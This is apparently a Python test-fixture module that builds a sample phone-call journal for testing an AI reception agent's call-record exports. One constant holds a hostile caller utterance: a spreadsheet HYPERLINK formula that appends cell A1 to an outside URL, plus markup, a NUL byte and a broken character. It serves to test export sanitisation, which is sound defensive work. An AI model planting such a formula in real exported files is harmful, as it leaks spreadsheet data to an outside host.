"""Calls to export: one in which everything happens, and others of it."""

from __future__ import annotations

from typing import Any

from agent.records.call_records import RecordFilter
from agent.records.events import CallRecord, JournalLine, RecordedEvent
from agent.records.exports.pages import WholeCall, calls_matching
from agent.records.seals import NoSeal, Seal
from agent.store.engine import Database

NASTY = '=HYPERLINK("http://example.org/?"&A1)\n<b>&\0 \ud83d'
"""What a caller may say: a formula, a newline, markup, NUL, half a character."""

LINES: list[tuple[str, float | None, dict[str, Any]]] = [
    ("agent", 0.5, {"turn": 1, "text": "Hello.", "until": 1.25, "said": "greeting"}),
    ("recording", 0.25, {"status": "started", "began": 0.25, "file": "a.flac"}),
    ("caller", 2.0, {"turn": 2, "text": NASTY, "until": 3.5, "confidence": 0.5}),
    ("timing", 4.5, {"turn": 2, "speech_end": 3.5, "heard": 4.25}),
    ("heard", 4.25, {"turn": 2, "text": "We are open.", "until": 5.25}),
    ("caller", 5.25, {"turn": 3, "text": "Thanks", "until": 6.0, "language": "en"}),
    ("barge_in", 5.75, {"by": "words"}),
    (
        "agent",
        4.25,
        {"turn": 2, "text": "We are open. From", "until": 6.0, "cut_off": True, "unheard": "nine."},
    ),
    ("usage", 8.0, {"stage": "llm", "provider": "x", "cost": 0.5, "currency": "EUR"}),
    ("usage", 8.0, {"stage": "tts", "provider": "y", "cost": 0.25, "currency": "EUR"}),
    ("ended", 8.0, {"reason": "the caller hung up", "hung_up_by": "caller", "close_code": 1000}),
    ("platform", 8.5, {"result": "ANSWERED", "amount": 0.02, "currency": "EUR", "seconds": 9}),
]


def journal(
    name: str, started: str = "2026-11-26T10:00:00.000+00:00", caller: str = "+15550000001"
) -> list[JournalLine]:
    """Return the lines of a call in which everything happens."""
    call = {
        "id": name,
        "call_id": f"sinch-{name}",
        "direction": "incoming",
        "caller": caller,
        "called": "+15550000002",
        "agent": "reception",
        "started": started,
    }
    return [
        JournalLine(journal=name, line=n, kind=kind, at=at, fields=fields)
        for n, (kind, at, fields) in enumerate([("call", None, call), *LINES])
    ]


def whole_call(lines: list[JournalLine] | None = None) -> WholeCall:
    """Return a call as exports take it, without a database."""
    lines = journal("a") if lines is None else lines
    events = [
        RecordedEvent(id=n, kind=one.kind, at=one.at, fields=one.fields)
        for n, one in enumerate(lines)
    ]
    data: dict[str, object] = {
        one.kind: one.fields for one in lines if one.kind in ("ended", "platform", "recording")
    }
    data["usage"] = [one.fields for one in lines if one.kind == "usage"]
    record = CallRecord(
        number=1,
        id="a",
        started=1795687200.0,
        ended=1795687208.0,
        direction="incoming",
        agent="reception",
        outcome="caller hung up",
        data={**lines[0].fields, **data},
    )
    return WholeCall(record=record, events=events)


async def all_of(
    database: Database, wanted: RecordFilter | None = None, seal: Seal | None = None
) -> list[WholeCall]:
    """Return every call of a database."""
    found = calls_matching(database, seal or NoSeal(), wanted or RecordFilter())
    return [one async for one in found]
